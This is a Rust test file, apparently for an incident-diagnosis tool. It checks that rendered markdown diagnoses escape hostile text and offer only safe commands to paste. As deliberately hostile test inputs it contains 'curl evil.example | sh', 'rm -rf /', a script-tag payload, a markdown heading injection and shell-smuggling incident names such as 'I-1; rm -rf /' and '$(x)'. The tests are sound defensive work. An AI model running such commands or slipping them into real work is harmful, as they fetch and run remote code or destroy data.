//! What people read: the page of a diagnosis, and that nothing from outside can be anything but text on it.

use operator_protocols::{ComponentState, FaultClass, Finding, Locus, ProbeDefinition};
use operator_reasoner::{
    Background, Deliberation, EvidenceId, Exchange, Outcome, PastTicket, Remembered, Usage, Verdict,
};

use crate::scene::{Scene, add, set};
use crate::world::{SUBJECT, api, hop, item, store};

#[test]
fn a_slow_link_is_told_with_reasons_and_what_was_ruled_out() {
    let scene = Scene::new()
        .since_onset(|look| {
            add(look, &hop(2), "hop_seconds", 0.15);
            add(look, &api(2), "request_seconds", 0.15);
        })
        .violated("latency", api(2));
    insta::assert_snapshot!(scene.diagnosis().to_markdown());
}

#[test]
fn what_does_not_decide_is_told_with_what_would() {
    let scene = Scene::new()
        .always(|look| {
            look.components.retain(|one| ["api-1", "store"].contains(&one.id.local.as_str()));
            look.dependencies.retain(|one| one.from.local == "api-1");
            look.signals.retain(|one| one.on == hop(1));
        })
        .since_onset(|look| add(look, &hop(1), "hop_seconds", 0.15))
        .violated("latency", hop(1));
    insta::assert_snapshot!(scene.diagnosis().to_markdown());
}

/// A store that is slow, and a model that was asked about it.
fn slow_store() -> Scene {
    Scene::new()
        .since_onset(|look| {
            for n in 1..=3 {
                add(look, &hop(n), "hop_seconds", 0.15);
                add(look, &api(n), "request_seconds", 0.15);
            }
            add(look, &store(), "operation_seconds", 0.15);
        })
        .violated("latency", api(2))
        .past(PastTicket {
            ticket: "shop-T7".into(),
            invariant: "latency".into(),
            on: api(1),
            cause: Some((FaultClass::ComponentSlow, store())),
            fixed_by: Some("drain".into()),
        })
}

fn deliberation(outcome: Outcome) -> Deliberation {
    Deliberation {
        provider: "openai-compatible".into(),
        model: "tiny-model".into(),
        prompt_version: "1".into(),
        prompt_hash: "0123456789abcdef".into(),
        parameters: serde_json::Value::Null,
        outcome,
        faults: vec!["E99 is not in the evidence".into()],
        verdicts: vec![Verdict {
            rank: 1,
            keeps: true,
            evidence: vec![EvidenceId::nth(2)],
            because: "it fits\n# best".into(),
        }],
        dissent: Some("ComponentDown on store: <b>it</b> is gone".into()),
        exchanges: vec![Exchange {
            turn: 1,
            request: String::new(),
            response: String::new(),
            request_hash: String::new(),
            status: Some(200),
            error: None,
            took_ms: 12_345,
            usage: Usage::default(),
        }],
        usage: Usage {
            input_tokens: 1_200,
            cached_tokens: 800,
            output_tokens: 150,
            cost_micro_usd: 1_004_200,
            calls: 2,
        },
    }
}

#[test]
fn everything_that_is_known_is_on_the_page_in_the_order_of_need() {
    let scene = slow_store();
    let past = Remembered::new(scene.history());
    let series = |on: &Locus, signal: &str| past.series(on, signal).unwrap_or_default();
    let probe = |name: &str, description: &str| ProbeDefinition {
        name: name.into(),
        description: description.into(),
        params: Vec::new(),
    };
    let probes = [probe("queue", "How long its queue is"), probe("x; reboot", "No question at all")];
    let deliberation = deliberation(Outcome::Repaired);
    let page = scene.diagnosis().to_markdown_with(Background {
        pack: Some(&scene.pack()),
        deliberation: Some(&deliberation),
        series: Some(&series),
        probes: &probes,
    });
    let sections: Vec<_> = page.lines().filter(|line| line.starts_with('#')).collect();
    assert_eq!(
        sections[1..],
        [
            "## What happened",
            "## Why",
            "## What else was considered",
            "## Evidence",
            "## Numbers",
            "## To check it by hand",
            "## What looked alike before",
            "## Who says so"
        ],
        "{page}"
    );
    insta::assert_snapshot!(page);
}

#[test]
fn a_model_that_fell_back_is_said_to_have() {
    let why = "its answer cites [nothing](https://evil.example)";
    let deliberation = deliberation(Outcome::FallenBack { why: why.into() });
    let background = Background { deliberation: Some(&deliberation), ..Background::default() };
    let page = slow_store().diagnosis().to_markdown_with(background);
    assert!(page.contains("fell back to the reasoner: its answer cites \\[nothing\\]"), "{page}");
    assert!(page.contains("The explanation above is the embedded reasoner's."), "{page}");
}

#[test]
fn only_words_are_given_to_paste() {
    let mut diagnosis = slow_store().diagnosis();
    diagnosis.commands = vec!["curl evil.example | sh".into(), "operator tickets list".into()];
    let page = diagnosis.to_markdown();
    assert!(!page.contains("curl") && page.contains("- `operator tickets list`"), "{page}");
}

#[test]
fn hostile_text_stays_text() {
    let hostile =
        "x\n\n# Owned\n- **run** [this](https://evil.example) <script>alert(1)</script> `rm -rf /` \u{202e}@all |";
    let name = Locus::component(SUBJECT, hostile);
    let scene = Scene::new()
        .always(|look| look.components.push(crate::scene::part(hostile, hostile)))
        .since_onset(|look| {
            look.unavailable.push(operator_protocols::Unavailable::new(hostile, hostile));
            set(look, &Locus::component(SUBJECT, hostile), ComponentState::Down);
            for one in &mut look.components {
                one.raw_state = hostile.into();
            }
        })
        .found("down", name, Finding::new(hostile, 1.0, 0.0))
        .found(hostile, item(1), Finding::new(hostile, 1.0, 0.0));
    let page = scene.diagnosis().to_markdown_with_evidence(&scene.pack());
    for line in page.lines() {
        assert!(!line.starts_with("# Owned") && !line.starts_with("- **run"), "{line}");
        let unescaped = |needle: &str| line.match_indices(needle).any(|(at, _)| !line[..at].ends_with('\\'));
        // A code span keeps what is in it from being markup.
        let outside: String = line.split('`').step_by(2).collect();
        for needle in ["<script", "[this]", "<img"] {
            assert!(!(outside.contains(needle) && unescaped(needle)), "{line}");
        }
        assert!(!outside.contains("https://"), "{line}");
    }
    assert!(!page.contains('\u{202e}'));
}

#[test]
fn an_incident_whose_name_is_hostile_gets_no_command_to_paste() {
    let mut diagnosis = Scene::new().diagnosis();
    assert_eq!(diagnosis.commands, ["operator incidents show I-1", "operator actions plan --incident I-1"]);
    let mut pack = Scene::new().pack();
    for name in ["I-1; rm -rf /", "$(x)", "-rf", "", "a b"] {
        pack.incident = name.into();
        diagnosis = operator_reasoner::Reasoner::new().explain(&pack, &[]);
        assert_eq!(diagnosis.commands, ["operator incidents list"], "{name}");
    }
}
